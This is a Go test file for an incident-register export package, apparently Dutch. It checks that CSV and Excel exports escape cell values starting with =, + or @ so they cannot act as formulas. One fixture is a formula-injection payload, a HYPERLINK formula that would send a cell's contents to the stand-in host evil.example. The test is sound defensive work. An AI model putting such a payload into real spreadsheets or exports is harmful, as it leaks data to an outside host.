package export

import (
	"bytes"
	"context"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/lekwacht/lekwacht/internal/incident"
)

// fakeSource hands over fixed entries in batches, as the service does.
type fakeSource struct{ batches [][]incident.RegisterEntry }

func (f fakeSource) Each(_ context.Context, fn func([]incident.RegisterEntry) error) error {
	for _, b := range f.batches {
		if err := fn(b); err != nil {
			return err
		}
	}
	return nil
}

func (f fakeSource) Events(context.Context, []int64) ([]incident.RegisterEvent, error) {
	return nil, nil
}

func TestTypedTextNeverBecomesAFormula(t *testing.T) {
	loc, _ := time.LoadLocation("Europe/Amsterdam")
	m := Meta{Organisation: "Bestuur", Filter: []string{"Alle incidenten"}, PrintedAt: time.Date(2026, 12, 1, 12, 0, 0, 0, loc), Location: loc}
	evil := `=HYPERLINK("http://evil.example/?"&A1;"klik")`
	src := fakeSource{batches: [][]incident.RegisterEntry{
		{{ID: 1, Number: incident.Number{Year: 2026, Seq: 1}, What: evil, Systems: "+31 6 12345678", ReporterName: "@melder", ReportedAt: m.PrintedAt}},
		{{ID: 2, Number: incident.Number{Year: 2026, Seq: 2}, What: "Gewone melding - niets aan de hand", ReportedAt: m.PrintedAt}},
	}}
	var buf bytes.Buffer
	if err := CSV(context.Background(), &buf, m, src); err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\ufeff")))
	r.Comma = ';'
	rows, err := r.ReadAll()
	if err != nil || len(rows) != 3 {
		t.Fatalf("rows %d %v", len(rows), err)
	}
	col := func(h string) int {
		for i, c := range incident.RegisterColumns {
			if c.Header == h {
				return i
			}
		}
		t.Fatalf("no column %q", h)
		return -1
	}
	if got := rows[1][col("Wat is er gemeld")]; got != "'"+evil {
		t.Errorf("formula kept: %q", got)
	}
	if got := rows[1][col("Welke systemen")]; got != "'+31 6 12345678" {
		t.Errorf("plus kept: %q", got)
	}
	if got := rows[1][col("Gemeld door")]; got != "'@melder" {
		t.Errorf("at kept: %q", got)
	}
	if got := rows[2][col("Wat is er gemeld")]; got != "Gewone melding - niets aan de hand" {
		t.Errorf("ordinary text changed: %q", got)
	}
	if got := rows[1][col("Gemeld op")]; got != "01-12-2026 12:00" {
		t.Errorf("date %q", got)
	}

	// Excel: the text is a string cell, never a formula.
	buf.Reset()
	if err := XLSX(context.Background(), &buf, m, src); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	cell, _ := excelize.CoordinatesToCellName(col("Wat is er gemeld")+1, 2)
	if formula, _ := f.GetCellFormula(SheetRegister, cell); formula != "" {
		t.Errorf("xlsx cell %s is a formula: %q", cell, formula)
	}
	if v, _ := f.GetCellValue(SheetRegister, cell); v != evil {
		t.Errorf("xlsx cell %s = %q", cell, v)
	}
}
